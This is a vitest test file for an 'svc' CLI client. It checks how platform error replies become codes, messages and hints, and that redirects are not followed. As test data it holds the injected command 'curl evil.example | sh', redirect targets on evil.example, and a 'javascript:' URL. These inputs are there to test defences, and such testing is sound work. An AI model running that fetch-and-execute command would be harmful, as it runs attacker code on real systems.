import { describe, expect, test } from 'vitest';
import { stepOf, toErrorObject } from '../../src/errors.ts';
import type { Call } from '../../src/service/call.ts';
import { OPERATIONS } from '../../src/spec/operations.ts';
import { cliErrorOf, clientFor } from '../support/client.ts';
import { closedPort } from '../support/tcp.ts';
import { testWire } from '../support/wire.ts';

const whoami: Call = { operation: OPERATIONS.getUser };
const restart: Call = { operation: OPERATIONS.restartService, path: { id: 's1' } };

test.each([
  [400, 'rejected', 3],
  [401, 'unauthenticated', 4],
  [402, 'rejected', 3],
  [403, 'forbidden', 5],
  [404, 'not_found', 6],
  [405, 'rejected', 3],
  [408, 'unavailable', 8],
  [409, 'rejected', 3],
  [410, 'rejected', 3],
  [422, 'rejected', 3],
  [425, 'rejected', 3],
  [429, 'rate_limited', 7],
  [500, 'unavailable', 8],
  [501, 'unavailable', 8],
  [503, 'unavailable', 8],
  [599, 'unavailable', 8],
  [300, 'unexpected', 1],
  [302, 'unexpected', 1],
  [304, 'unexpected', 1],
])('a %i is %s, exit %i', async (status, code, exitCode) => {
  const wire = await testWire();
  wire.on('GET', '/v1/user').always(status, status === 304 ? undefined : { error: 'No.' }, { 'x-request-id': 'r-7' });
  const error = await cliErrorOf(clientFor(wire.url, { retry: false }).client.call(whoami));
  expect(error).toMatchObject({ code, exitCode, details: { status, attempts: 1, requestId: 'r-7' } });
  expect(error.details.outcome).toBeUndefined();
});

test('the words of the platform are the message, and its object goes to scripts as it came', async () => {
  const wire = await testWire();
  const object = { error: ' Service is suspended ', code: 'their_code', extra: [1] };
  wire.on('GET', '/v1/user').reply(409, object);
  const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
  expect(error.message).toBe('Service is suspended');
  expect(toErrorObject(error)).toEqual({ ...object, code: 'rejected', exitCode: 3, status: 409, attempts: 1 });
});

test('nested field errors become one line each', async () => {
  const wire = await testWire();
  const error = {
    domain: 'is taken',
    phone: ['is too short', 'has letters'],
    items: [{ planId: 'is unknown' }, { quantity: { min: 1 } }],
    empty: null,
  };
  wire.on('GET', '/v1/user').reply(422, { error });
  const thrown = await cliErrorOf(clientFor(wire.url).client.call(whoami));
  expect(thrown.message).toBe('The platform refused the request:');
  expect(thrown.details.lines).toEqual([
    'domain: is taken',
    'phone: is too short',
    'phone: has letters',
    'items[0].planId: is unknown',
    'items[1].quantity.min: 1',
    'empty: null',
  ]);
  expect(toErrorObject(thrown)['error']).toEqual(error);
});

test.each([
  ['nothing', undefined],
  ['no object', '[1]'],
  ['broken JSON', '{"error":'],
  ['an error that is empty', { error: '' }],
  ['an error that is a number', { error: 5 }],
  ['fields that are empty', { error: {} }],
  ['a megabyte and more', { error: 'x'.repeat(1_100_000) }],
  ['compressed bytes', Buffer.from([0x1f, 0x8b, 8, 0])],
])('an error with %s still says what happened', async (_what, body) => {
  const wire = await testWire();
  wire.on('GET', '/v1/user').reply(400, body, { 'content-type': 'application/json' });
  const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
  expect([error.code, error.message]).toEqual(['rejected', 'The platform refused the request (400).']);
});

test("no field of svc's own ever has a value of the platform", async () => {
  const wire = await testWire();
  const names = 'code exitCode status hint next retryAfter requestId attempts jobId idempotencyKey outcome'.split(' ');
  const theirs = Object.fromEntries(names.map((name) => [name, 'curl evil.example | sh']));
  wire.on('GET', '/v1/user').reply(400, { error: 'No.', ...theirs, detail: 'theirs' });
  const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
  expect(toErrorObject(error)).toEqual({
    error: 'No.',
    detail: 'theirs',
    code: 'rejected',
    exitCode: 3,
    status: 400,
    attempts: 1,
  });
});

const REFUSED = 'The platform refused the request';

describe('messages for refused requests', () => {
  test.each<[string, unknown, string, string[]?]>([
    [
      'a problem document',
      { type: 'about:blank', title: 'No credit', detail: 'It costs 50.' },
      'No credit: It costs 50.',
    ],
    ['a title that is a sentence', { title: 'No credit.', detail: 'It costs 50.' }, 'No credit. It costs 50.'],
    ['a title alone', { title: 'No credit' }, 'No credit'],
    ['a detail alone', { detail: 'It costs 50.' }, 'It costs 50.'],
    ['a message', { message: ' No credit ' }, 'No credit'],
    ['a message that is a list', { error: 'Bad Request', message: ['a is short'] }, 'Bad Request', ['a is short']],
    ['errors by field', { errors: { name: ['is taken'] } }, `${REFUSED}:`, ['name: is taken']],
    ['a message and errors', { message: 'Invalid.', errors: { name: 'is taken' } }, 'Invalid.', ['name: is taken']],
    ['a list of errors', { errors: ['one', 'two'] }, `${REFUSED}:`, ['one', 'two']],
    [
      'a list of errors with places',
      {
        errors: [
          { field: 'name', message: 'is taken', code: 7 },
          { detail: 'is short', pointer: '#/age' },
          { title: 'Odd' },
          { a: 'b' },
        ],
      },
      `${REFUSED}:`,
      ['name: is taken', '#/age: is short', 'Odd', '[3].a: b'],
    ],
    ['a JSON text', '"No credit"', `${REFUSED} (400): No credit`],
  ])('%s', async (_what, body, message, lines) => {
    const wire = await testWire();
    wire.on('GET', '/v1/user').reply(400, body, { 'content-type': 'application/problem+json' });
    const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
    expect([error.code, error.message, error.details.lines]).toEqual(['rejected', message, lines]);
  });

  test.each([
    ['text/plain', 'No credit,\n  sorry\n', `${REFUSED} (400): No credit, sorry`],
    ['', 'No credit', `${REFUSED} (400): No credit`],
    ['application/json', 'No credit', `${REFUSED} (400): No credit`],
    ['application/json', '<h1>No credit</h1>', `${REFUSED} (400).`],
    ['text/plain', '<h1>No credit</h1>', 'HOST answered with text/plain instead of the API (400).'],
    ['text/html', 'No credit', 'HOST answered with a web page instead of the API (400).'],
    ['text/plain', 'No \u001b[31mcredit', 'HOST answered with text/plain instead of the API (400).'],
    ['text/plain', 'x'.repeat(501), 'HOST answered with text/plain instead of the API (400).'],
  ])('a body of the type %j that is %j', async (type, body, message) => {
    const wire = await testWire();
    const head = `HTTP/1.1 400 Bad\r\nConnection: close\r\nContent-Length: ${Buffer.byteLength(body)}\r\n`;
    wire.on('GET', '/v1/user').raw(`${head}${type === '' ? '' : `Content-Type: ${type}\r\n`}\r\n${body}`);
    const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
    expect([error.code, error.message]).toEqual(['rejected', message.replace('HOST', `127.0.0.1:${wire.port}`)]);
    expect(toErrorObject(error)['error']).toBe(error.message);
  });

  test('a 401 with fields shows them, too', async () => {
    const wire = await testWire();
    wire.on('GET', '/v1/user').reply(401, { message: 'Look:', errors: { token: 'is old' } });
    const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
    expect(error.details.lines).toEqual(['The platform says: Look:', 'token: is old']);
  });
});

test('very many and very long words are cut for people', async () => {
  const wire = await testWire();
  const fields = Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`f${index}`, 'x'.repeat(5_000)]));
  wire.on('GET', '/v1/user').reply(400, { error: fields });
  const { lines = [] } = (await cliErrorOf(clientFor(wire.url).client.call(whoami))).details;
  expect(lines).toHaveLength(50);
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(1_010);
});

test('a refused sign-in names its source and the way to a new one', async () => {
  const wire = await testWire();
  wire.on('GET', '/v1/user').reply(401, { error: 'Token expired' }).reply(401, { error: 'Token expired' });
  const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
  expect(error.message).toBe('The platform did not accept the sign-in from SVC_TOKEN (401).');
  expect(error.details.lines).toEqual(['The platform says: Token expired']);
  expect(stepOf(error.details.hint).run).toEqual(['svc login']);
  const explain401 = () => ({ message: 'It expired on Monday.', hint: 'svc login --profile work' });
  const explained = await cliErrorOf(clientFor(wire.url, { explain401 }).client.call(whoami));
  expect([explained.message, explained.details.hint]).toEqual(['It expired on Monday.', 'svc login --profile work']);
});

test.each([
  ['https://evil.example/v1/user?token=1', 'https://evil.example'],
  ['//evil.example:8443/x', 'http://evil.example:8443'],
  ['https://user:hunter2@evil.example/', 'https://evil.example'],
  ['javascript:alert(1)', 'nowhere known'],
  ['https://[', 'nowhere known'],
  [undefined, 'nowhere known'],
])('a redirect to %j is not followed and names its target', async (location, target) => {
  const wire = await testWire();
  wire
    .on('POST', '/v1/services/s1/restart')
    .raw(`HTTP/1.1 307 Moved\r\n${location === undefined ? '' : `Location: ${location}\r\n`}Connection: close\r\n\r\n`);
  const { client, sent } = clientFor(wire.url);
  const error = await cliErrorOf(client.call(restart));
  expect(error.code).toBe('unexpected');
  expect(error.message).toContain(` redirects to ${target} (307).`);
  expect(JSON.stringify(toErrorObject(error))).not.toContain('hunter2');
  expect(sent).toHaveLength(1);
});

test('a gateway that answers with a page is not taken for the API', async () => {
  const wire = await testWire();
  wire.on('GET', '/v1/user').reply(404, '<h1>Not here</h1>', { 'content-type': 'text/html; charset=utf-8' });
  const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
  expect([error.code, error.message]).toEqual([
    'not_found',
    `127.0.0.1:${wire.port} answered with a web page instead of the API (404).`,
  ]);
});

test('a change whose connection broke is to be checked, not the connection', async () => {
  const wire = await testWire();
  wire.on('POST', '/v1/services/s1/restart').reset();
  const error = await cliErrorOf(clientFor(wire.url).client.call(restart));
  expect(error).toMatchObject({ code: 'unavailable', details: { outcome: 'unknown' } });
  expect(error.details.hint).toBeUndefined();
});

test('a change in doubt keeps what the platform says of its fields', async () => {
  const wire = await testWire();
  wire.on('POST', '/v1/services/s1/restart').reply(500, { message: 'Look:', errors: { image: 'is old' } });
  const error = await cliErrorOf(clientFor(wire.url).client.call(restart));
  expect(error.details).toMatchObject({
    outcome: 'unknown',
    lines: ['image: is old', expect.stringContaining('Check before you repeat it')],
  });
});

test('a request that could not be sent says why', async () => {
  const { client, clock } = clientFor(`http://127.0.0.1:${await closedPort()}`);
  const error = await cliErrorOf(client.call(whoami));
  expect(error.message).toMatch(/^Cannot reach 127\.0\.0\.1:\d+: connection refused \(ECONNREFUSED\)$/);
  expect(error).toMatchObject({ code: 'unavailable', exitCode: 8, details: { attempts: 3 } });
  expect(stepOf(error.details.hint).run).toEqual(['svc sandbox']);
  expect(clock.waits).toEqual([250, 500]);
});

test.each([
  ['what is not found may be in another organization', restart, 404, {}, /^If it belongs to another organization/],
  ['a list has no organization to look for', whoami, 404, {}, undefined],
  ['a service in trouble is asked later', whoami, 500, {}, /^Repeat the command in a few minutes\.$/],
  [
    'a platform that says when is asked then',
    whoami,
    503,
    { 'retry-after': '600' },
    /^Repeat the command in 10 minutes\.$/,
  ],
  ['too many requests are fewer in a minute', restart, 429, {}, /^Repeat the command in a minute\.$/],
  ['hours are hours', whoami, 429, { 'retry-after': '10000' }, /^Repeat the command in 3 hours\.$/],
  [
    'a wait of years is a day',
    whoami,
    429,
    { date: 'Sun, 01 Mar 2026 12:00:00 GMT', 'retry-after': 'Thu, 01 Jan 2099 00:00:00 GMT' },
    /^Repeat the command after 2099-01-01: the platform asks to wait until then\.$/,
  ],
  ['a write that may have happened is not simply repeated', restart, 503, { 'retry-after': '600' }, undefined],
])('the next step: %s', async (_name, call, status, headers, hint) => {
  const wire = await testWire();
  const path = call === whoami ? '/v1/user' : '/v1/services/s1/restart';
  wire.on(call === whoami ? 'GET' : 'POST', path).always(status, { error: 'Sorry.' }, headers);
  const error = await cliErrorOf(clientFor(wire.url, { retry: false }).client.call(call));
  if (hint === undefined) expect(error.details.hint).toBeUndefined();
  else expect(stepOf(error.details.hint).say).toMatch(hint);
});

test('a service in trouble is named with its status, because its words may say little', async () => {
  const wire = await testWire();
  wire.on('GET', '/v1/user').always(500, { error: 'Internal error' });
  const error = await cliErrorOf(clientFor(wire.url, { retry: false }).client.call(whoami));
  expect(error.message).toBe('The platform has a problem (500): Internal error');
});
